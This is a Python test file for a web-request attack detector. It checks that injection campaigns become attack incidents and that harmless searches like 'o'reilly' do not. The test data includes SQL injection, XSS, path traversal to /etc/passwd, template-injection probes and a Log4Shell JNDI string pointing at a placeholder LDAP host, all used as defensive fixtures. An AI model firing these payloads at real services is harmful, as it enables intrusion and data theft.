"""attack_payload / unusual_payload incidents from per-request findings, end to end."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from detector.analysis.analyzer import RequestAnalyzer
from detector.config import Settings
from detector.events import AccessEvent
from detector.incidents.model import Incident
from detector.pipeline import Pipeline
from detector.sinks import MemorySink
from tests.pipeline.synthetic import T0, traffic


@pytest.fixture(scope="module")
def analyzer_factory() -> type[RequestAnalyzer]:
    RequestAnalyzer(learn_online=True)  # compile (or load) the signature database once
    return RequestAnalyzer


def _ev(t: float, query: str, client: str, path: str = "/v1/search",
        status: int = 200) -> AccessEvent:
    return AccessEvent(
        T0 + t,
        "shop",
        None,
        "GET",
        path,
        query,
        status,
        0.02,
        10,
        client,
        "Mozilla/5.0",
        None,
        None,
        "t.log",
        0,
    )


def _run(extra: list[AccessEvent], make: type[RequestAnalyzer]) -> list[Incident]:
    base = [
        e._replace(service="shop", query=f"q=item+{i % 50}&page={i % 5}")
        for i, e in enumerate(traffic(150, rate=4))
    ]
    # The searched route serves from the start (else it is a new endpoint).
    base += [_ev(i * 5.0, f"q=item+{i % 40}&page={i % 4}", f"4.4.{i % 50}.1") for i in range(1800)]
    items = sorted([*base, *extra], key=lambda e: e.ts)
    sink = MemorySink()
    p = Pipeline(Settings(), [sink], analyzer=make(learn_online=True))
    p.process(items)
    p.finish()
    return [i for i in sink.items if i.status == "open"]


def test_one_client_campaign_is_one_client_keyed_incident(
    analyzer_factory: type[RequestAnalyzer],
) -> None:
    payloads = [
        "1' OR '1'='1",
        "1 UNION SELECT password FROM users--",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
    ]
    attack = [_ev(100 * 60 + i * 2.0, "q=" + quote(payloads[i % 4]), "6.6.6.6") for i in range(120)]
    opened = _run(attack, analyzer_factory)
    assert [(i.kind, i.client) for i in opened] == [("attack_payload", "6.6.6.6")]
    ev = opened[0].evidence
    assert {"sqli", "xss", "path_traversal"} <= set(ev["attack_types"])
    assert ev["samples"] and "6.6.6.6" in ev["samples"][0]


def test_a_campaign_a_waf_blocks_is_one_attack_incident_not_an_auth_burst(
    analyzer_factory: type[RequestAnalyzer],
) -> None:
    payloads = ["1' OR '1'='1", "<script>alert(1)</script>", "{{7*7}}", "${7*7}"]
    attack = [_ev(100 * 60 + i * 2.0, "q=" + quote(payloads[i % 4]), "6.6.6.6", status=403)
              for i in range(150)]
    opened = _run(attack, analyzer_factory)
    assert [(i.kind, i.client) for i in opened] == [("attack_payload", "6.6.6.6")]


def test_distributed_low_and_slow_campaign_is_route_keyed(
    analyzer_factory: type[RequestAnalyzer],
) -> None:
    attack = [
        _ev(100 * 60 + i * 40.0, "q=" + quote("${jndi:ldap://x.example/a}"), f"7.7.7.{i}")
        for i in range(12)
    ]
    opened = _run(attack, analyzer_factory)
    assert [(i.kind, i.route, i.client) for i in opened] == [("attack_payload", "/v1/search", None)]


def test_benign_lookalikes_raise_nothing(analyzer_factory: type[RequestAnalyzer]) -> None:
    words = [
        "men's shoes",
        "o'reilly",
        "select chair",
        "union jack flag",
        "drop earrings",
        "<3",
        "rock & roll",
    ]
    benign = [
        _ev(10 * 60 + i * 25.0, "q=" + quote(words[i % len(words)]), f"5.5.{i % 9}.1")
        for i in range(300)
    ]
    assert _run(benign, analyzer_factory) == []


def test_broken_encoding_campaign_and_the_400s_it_meets_are_one_incident(
    analyzer_factory: type[RequestAnalyzer],
) -> None:
    # A buggy integration: every other search carries a UTF-16 byte order mark its
    # encoder breaks; the route rejects all of its requests, the plain-looking ones too.
    fuzz = [_ev(100 * 60 + i * 2.0, ("q=shoes%FF%FE" if i % 2 else f"q=item+{i % 40}")
                + f"&page={i % 4}", "9.9.9.9", status=400) for i in range(150)]
    opened = _run(fuzz, analyzer_factory)
    mine = [(i.kind, i.client) for i in opened if i.kind != "new_endpoint"]
    assert mine == [("unusual_payload", "9.9.9.9")], mine
